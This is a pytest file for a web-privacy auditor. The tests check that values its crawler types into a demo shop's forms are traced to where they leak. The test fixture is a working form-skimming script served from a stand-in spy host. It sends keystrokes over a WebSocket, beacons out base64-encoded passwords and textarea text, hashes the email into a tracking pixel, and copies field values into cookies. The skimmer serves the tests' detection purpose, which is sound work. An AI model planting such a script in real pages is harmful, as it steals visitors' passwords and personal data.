"""Values are typed into forms as a visitor would, never submitted, and reach whoever listens."""

from collections.abc import AsyncIterator

import pytest
import pytest_asyncio
from starlette.websockets import WebSocket

from auditor.demo.server import DemoWeb
from auditor.demo.web import Site
from auditor.model.records import PageViewRecord
from auditor.web.traces import Trace, Traces
from spiders.browser import launch
from spiders.cdp import CdpError, Connection
from spiders.collectors.typing import TypingCollector, made_up
from spiders.options import BrowserOptions
from spiders.targets import Target, Targets
from spiders.view import View
from tests.spiders.conftest import fake_web, options_for
from tests.spiders.kinds_web import GIF, script, typed

pytestmark = pytest.mark.asyncio(loop_scope="module")

SHOP, SPY = "https://shop.example", "https://spy.example"
FORMS = f"""<!doctype html><link rel=icon href=data:,><title>Forms</title>
<form role=search action=/search><input name=q></form>
<form action=/join method=post><label>Your name <input name=who></label><input name=mail type=email>
<input name=pass type=password><textarea name=words></textarea><input type=hidden name=token>
<input name=trap style='display:none'><input name=known value=kept><input name=code maxlength=4></form>
<form action=/pay><input name=holder autocomplete=cc-name><input name=number placeholder='Card number'></form>
<script src={SPY}/spy.js></script>"""
SPYING = f"""
const socket = new WebSocket('wss://spy.example/keys');
const held = [];
addEventListener('keydown', (event) => held.push(event.key));
onbeforeunload = (event) => event.preventDefault();
addEventListener('input', ({{target}}) => {{
  document.cookie = `draft_${{target.name}}=${{encodeURIComponent(target.value)}}`;
}});
addEventListener('change', (event) => {{
  if (event.target.name !== 'mail') return;
  socket.send(held.join(''));
  crypto.subtle.digest('SHA-256', new TextEncoder().encode(event.target.value.toLowerCase())).then((digest) => {{
    const hex = [...new Uint8Array(digest)].map((byte) => byte.toString(16).padStart(2, '0')).join('');
    new Image().src = `{SPY}/p.gif?em=${{hex}}`;
  }});
}});
addEventListener('pagehide', () => navigator.sendBeacon('{SPY}/bye',
  btoa(JSON.stringify([...document.querySelectorAll('textarea, [type=password]')].map((field) => field.value)))));
"""


async def keys(socket: WebSocket) -> None:
    await socket.accept()
    async for _ in socket.iter_text():
        pass


SITES = {
    "shop.example": Site(routes={"/": FORMS, "/again": FORMS, "/join": "joined", "/pay": "paid", "/search": "found"}),
    "spy.example": Site(
        routes={"/spy.js": script(SPYING), "/p.gif": typed(GIF, "image/gif"), "/bye": typed("", "text/plain")},
        sockets={"/keys": keys},
    ),
}


@pytest_asyncio.fixture(loop_scope="module", scope="module")
async def seen() -> AsyncIterator[tuple[PageViewRecord, PageViewRecord, DemoWeb]]:
    with fake_web(SITES) as web:
        async with launch(options_for(web)) as browser:
            visit = await browser.new_visit()
            first = await visit.load(f"{SHOP}/", ordinal=1, timeout=15)
            yield first, await visit.load(f"{SHOP}/again", ordinal=2, timeout=15), web


async def test_each_kind_of_field_gets_a_value_of_its_own(seen: tuple[PageViewRecord, PageViewRecord, DemoWeb]) -> None:
    rows = seen[0].typed_values
    assert rows is not None
    assert {row.field: row.kind for row in rows} == {
        "who": "name",
        "mail": "email",
        "pass": "password",
        "words": "text",
    }
    assert len({row.value for row in rows}) == 4


async def test_nothing_is_submitted(seen: tuple[PageViewRecord, PageViewRecord, DemoWeb]) -> None:
    assert {entry.path.partition("?")[0] for entry in seen[2].log} == {
        "/",
        "/again",
        "/spy.js",
        "/p.gif",
        "/bye",
        "/keys",
    }


async def test_a_form_is_typed_into_once_a_visit(seen: tuple[PageViewRecord, PageViewRecord, DemoWeb]) -> None:
    assert seen[1].typed_values == ()


async def test_what_was_typed_is_found_where_it_went(seen: tuple[PageViewRecord, PageViewRecord, DemoWeb]) -> None:
    record = seen[0]
    traces = Traces({row.kind: row.value for row in record.typed_values or ()})
    requests = {row.url.partition("?")[0]: traces.find(f"{row.url} {row.body}") for row in record.requests or ()}
    assert {url: found for url, found in requests.items() if found} == {
        f"{SPY}/p.gif": {Trace("email", ("sha256",))},
        f"{SPY}/bye": {Trace("password", ("base64",)), Trace("text", ("base64",))},
    }
    assert {trace for row in record.messages or () for trace in traces.find(row.payload)} == {
        Trace("name", ()),
        Trace("email", ()),
    }
    final = {row.name: traces.find(row.value) for row in record.cookies or () if row.final}
    assert final == {
        "draft_who": {Trace("name", ())},
        "draft_mail": {Trace("email", ())},
        "draft_pass": {Trace("password", ())},
        "draft_words": {Trace("text", ())},
    }


async def test_switched_off_is_not_observed() -> None:
    page = Target(session="s", id="t", type="page", url="", context="c")
    view = View(
        url=SHOP,
        ordinal=1,
        connection=Connection(lambda *_: None, frozenset()),
        targets=Targets(),
        page=page,
        options=BrowserOptions(typing=False),
        jar_before=[],
    )
    collector = TypingCollector(view)
    await collector.type(set(), 0)
    with pytest.raises(CdpError):
        collector.rows()


async def test_no_two_made_up_values_are_the_same() -> None:
    values = [value for _ in range(50) for value in made_up().values()]
    assert len(set(values)) == len(values)
